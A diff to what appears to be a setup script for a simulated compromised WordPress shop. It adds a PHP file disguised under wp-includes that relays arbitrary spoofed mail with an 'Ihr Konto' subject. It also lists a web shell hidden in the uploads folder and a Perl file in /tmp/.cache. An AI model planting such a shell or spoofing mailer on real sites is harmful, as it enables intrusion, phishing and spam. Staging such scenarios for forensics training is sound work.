@@ -8,6 +8,7 @@ SHELL = f"{SHOP}/wp-content/uploads/2026/03/thumb.php"
 COPY = f"{SHOP}/empfehlen.php"
 ORDER = f"{SHOP}/shop/bestellen.php"
 CRON = f"{SHOP}/wp-content/plugins/galerie/send.php"
+LOOP = f"{SHOP}/wp-includes/mailer.php"
 PERL = "/tmp/.cache/m.pl"
 
 MODULES = "/usr/lib/apache2/modules"
@@ -49,6 +50,18 @@ SCRIPTS = {
     'mail($_POST["freund"], "Eine Empfehlung", $text, "From: info@laden.example", "-finfo@laden.example");\n'
     'echo "Gesendet.";\n',
     SHELL: _OPEN,
+    # Speaks SMTP to this very machine: nothing but the loopback is left of it.
+    LOOP: """<?php
+$server = fsockopen("127.0.0.1", 25);
+$say = function ($line) use ($server) { fgets($server); fwrite($server, "$line\\r\\n"); };
+$say("HELO localhost");
+$say("MAIL FROM:<$_POST[from]>");
+$say("RCPT TO:<$_POST[to]>");
+$say("DATA");
+$say("From: $_POST[from]\\r\\nTo: $_POST[to]\\r\\nSubject: Ihr Konto\\r\\n\\r\\n$_POST[text]\\r\\n.");
+$say("QUIT");
+echo fgets($server);
+""",
     ORDER: '<?php\n$to = $_POST["email"];\n$text = "Vielen Dank für Ihre Bestellung $_POST[nummer].\\n";\n'
     'mail($to, "Ihre Bestellung", $text, "From: Laden <info@laden.example>\\r\\n"\n'
     '    . "MIME-Version: 1.0\\r\\nContent-Type: text/plain; charset=utf-8\\r\\nContent-Transfer-Encoding: 8bit",\n'
